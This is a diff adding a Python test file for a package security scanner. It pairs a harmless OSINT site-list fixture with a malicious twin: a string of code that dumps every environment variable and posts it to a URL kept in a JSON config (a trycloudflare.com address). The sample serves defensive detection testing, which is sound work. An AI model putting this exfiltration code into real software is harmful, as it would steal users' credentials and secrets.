@@ -1,0 +1,65 @@
+"""Round 12's false-alarm classes (chains, persistence, endpoints), each a harmless fixture
+beside a malicious twin.
+
+Every harmless fixture (how a popular release does the thing) must stay below high; every twin
+(the same shape doing harm) must still be high or critical with the threat named for it.
+Addresses are TEST-NET or ``.invalid``; nothing here is ever run.
+"""
+
+from __future__ import annotations
+
+import json
+
+from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan
+
+
+def _scan(files, tmp_path, sub: str):
+    where = tmp_path / sub
+    where.mkdir()
+    return scan(files, where)
+
+
+def _ids(result) -> list[tuple[str, str]]:
+    return [(t.id, t.severity) for t in result.threats]
+
+
+# ---------------------------------------------------------------- addresses in a data file
+# An OSINT tool's site list (maigret's data.json) names thousands of sites, among them a tunnel
+# service's forum and an IP-lookup service's community site. A data file is read, not run: the
+# endpoint was already no threat of its own there, and now joins no chain either.
+def _site_list() -> str:
+    sites = {
+        f"site{i}.example.invalid": {"urlMain": f"https://site{i}.example.invalid"}
+        for i in range(30)
+    }
+    sites["discuss.playit.gg"] = {"urlMain": "https://discuss.playit.gg", "tags": ["forum"]}
+    sites["community.ipinfo.io"] = {"urlMain": "https://community.ipinfo.io"}
+    return json.dumps(sites, indent=4)
+
+
+SITE_READER = (
+    "import json\nimport os\n\n\ndef load():\n"
+    "    with open(os.path.join(os.path.dirname(__file__), 'resources', 'data.json')) as f:\n"
+    "        return json.load(f)\n"
+)
+
+
+def test_a_site_list_naming_a_tunnel_and_an_ip_lookup_is_no_chain(tmp_path):
+    files = {"pkg/__init__.py": SITE_READER, "pkg/resources/data.json": _site_list()}
+    result = scan(files, tmp_path)
+    assert result.risk.level not in HIGH, _ids(result)
+
+
+def test_code_sending_the_environment_to_an_address_kept_in_json_is_still_caught(tmp_path):
+    thief = (
+        "import json\nimport os\nimport urllib.request\n\n"
+        "with open(os.path.join(os.path.dirname(__file__), 'cfg.json')) as f:\n"
+        "    url = json.load(f)['upload']\n"
+        "body = json.dumps(dict(os.environ)).encode()\n"
+        "urllib.request.urlopen(url, data=body)\n"
+    )
+    files = {
+        "pkg/__init__.py": thief,
+        "pkg/cfg.json": json.dumps({"upload": "https://abc-def.trycloudflare.com/u"}),
+    }
+    assert_high_with("json-kept drop", scan(files, tmp_path), {"chain.exfiltration"})
